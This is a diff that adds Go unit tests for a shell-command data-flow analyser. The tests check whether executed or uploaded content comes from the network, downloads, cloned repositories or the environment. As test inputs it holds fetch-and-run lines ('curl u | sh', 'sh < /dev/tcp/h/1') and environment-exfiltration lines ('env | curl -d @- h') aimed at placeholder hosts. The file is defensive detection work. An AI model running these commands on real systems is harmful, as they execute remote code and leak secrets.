@@ -1,0 +1,125 @@
+package flow_test
+
+import (
+	"slices"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+
+	"github.com/agent-loop/shimgen/flow"
+	"github.com/agent-loop/shimgen/grammar"
+	"github.com/agent-loop/shimgen/parser"
+)
+
+// read returns the invocations of a text, and its graph. The link l leads to the directory d.
+func read(t *testing.T, source string) ([]*grammar.Invocation, *flow.Graph) {
+	t.Helper()
+	s, err := parser.Parse(source, parser.Options{})
+	require.NoError(t, err)
+	invs := slices.Collect(grammar.All(grammar.Read(s, parser.Options{})))
+	return invs, flow.New(invs, "/w", func(name string) (string, bool) { return "/w/d", name == "/w/l" })
+}
+
+// Where the code comes from that some effect of the text runs or sends.
+func TestSources(t *testing.T) {
+	const sinks = grammar.Runs | grammar.Evaluates | grammar.Uploads
+	for _, c := range []struct {
+		why, source string
+		from        flow.Source
+		want        parser.Truth
+	}{
+		{"a pipe from the network", "curl u | sh", flow.Network, parser.Yes},
+		{"a filter on the way", "curl u | sed p | sh", flow.Network, parser.Yes},
+		{"a substitution", `eval "$(curl u)"`, flow.Network, parser.Yes},
+		{"a connection in the place of a file", "sh < /dev/tcp/h/1", flow.Network, parser.Yes},
+		{"a pipe from a file", "cat u | sh", flow.Network, parser.No},
+		{"a file just downloaded", "curl -o x u; sh x", flow.Download, parser.Yes},
+		{"a copy of it", "curl -o x u; cp x y; sh y", flow.Download, parser.Yes},
+		{"by a link that was there before", "cd /w; curl -o l/x u; sh d/x", flow.Download, parser.Yes},
+		{"by a link of the text's own", "curl -o x u; ln -s x y; sh y", flow.Download, parser.Yes},
+		{"by the name that mktemp makes up", "t=$(mktemp); curl -o $t u; sh $t", flow.Download, parser.Yes},
+		{"taint passes only forward", "sh x; curl -o x u", flow.Download, parser.No},
+		{"another file", "curl -o x u; sh y", flow.Download, parser.No},
+		{"below a cloned repository", "git clone https://h/r; sh r/x.sh", flow.Clone, parser.Yes},
+		{"beside it", "git clone https://h/r; sh x.sh", flow.Clone, parser.No},
+		{"below an unpacked archive", "curl u | tar xz -C d; sh d/x.sh", flow.Archive, parser.Yes},
+		{"below an archive that was there", "tar xzf a.tgz -C d; sh d/x.sh", flow.Archive, parser.No},
+		{"a file with the environment", "env > x; curl -T x h", flow.Environment, parser.Yes},
+		{"a file with one variable", "printenv HOME > x; curl -T x h", flow.Environment, parser.No},
+		{"text", "python3 -c x", flow.Text, parser.Yes},
+		{"what is not known", `sh -c "$x"`, flow.Unknown, parser.Yes},
+		{"anything", `sh -c "$x"`, flow.Anywhere, parser.Yes},
+	} {
+		invs, g := read(t, c.source)
+		best := parser.No
+		for _, v := range invs {
+			for i := range v.Effects {
+				if v.Effects[i].Kind&sinks != 0 {
+					best = best.Or(g.From(c.from, v, &v.Effects[i]))
+				}
+			}
+		}
+		assert.Equal(t, c.want, best, "%s: %s", c.why, c.source)
+	}
+}
+
+// What the last command of a text reads from the others, and what the first shows to them.
+func TestPipes(t *testing.T) {
+	for _, c := range []struct {
+		why, source            string
+		reads, showsFirst, log bool
+	}{
+		{"a pipe", "env | curl -d @- h", true, false, false},
+		{"a filter between, which shows what it reads", "env | base64 | curl -d @- h", true, true, false},
+		{"a word", `curl "$(env)"`, true, false, false},
+		{"another program", "ls | curl -d @- h", false, false, false},
+		{"a filter alone", "env | sort", true, true, false},
+		{"nobody reads it", "env", false, true, false},
+		{"thrown away", "env > /dev/null", false, false, false},
+		{"a login", "env | docker login -u x --password-stdin", true, false, true},
+	} {
+		invs, g := read(t, c.source)
+		first := invs[slices.IndexFunc(invs, func(v *grammar.Invocation) bool { return v.Name == "env" || v.Name == "ls" })]
+		last := invs[len(invs)-1]
+		if last == first {
+			last = invs[0]
+		}
+		assert.Equal(t, c.reads, g.StdinFrom("env", last), "reads: %s", c.why)
+		assert.Equal(t, c.showsFirst, g.IsShown("", first), "shows: %s", c.why)
+		assert.Equal(t, c.log, g.OnlyLoginsRead(first), "login: %s", c.why)
+	}
+}
+
+// What a command before surely made.
+func TestIsMade(t *testing.T) {
+	for _, c := range []struct {
+		why, source string
+		want        bool
+	}{
+		{"the file itself", "touch x; rm x", true},
+		{"a directory above", "mkdir -p d; rm -r d/e", true},
+		{"what a pattern matches in it", "mkdir d; rm d/*", true},
+		{"from another directory", "mkdir d; cd d; rm ../x", false},
+		{"only later", "rm x; touch x", false},
+		{"a name that begins alike", "mkdir d; rm dd", false},
+	} {
+		invs, g := read(t, c.source)
+		made := false
+		for _, v := range invs {
+			for i := range v.Effects {
+				made = made || v.Effects[i].Kind&grammar.Deletes != 0 && g.IsMade(v, &v.Effects[i])
+			}
+		}
+		assert.Equal(t, c.want, made, "%s: %s", c.why, c.source)
+	}
+}
+
+// Every source has words of its own.
+func TestSourceNames(t *testing.T) {
+	seen := map[string]bool{}
+	for s := flow.Anywhere; s <= flow.Text; s++ {
+		assert.False(t, s.String() == "" || seen[s.String()], "%d", s)
+		seen[s.String()] = true
+	}
+}
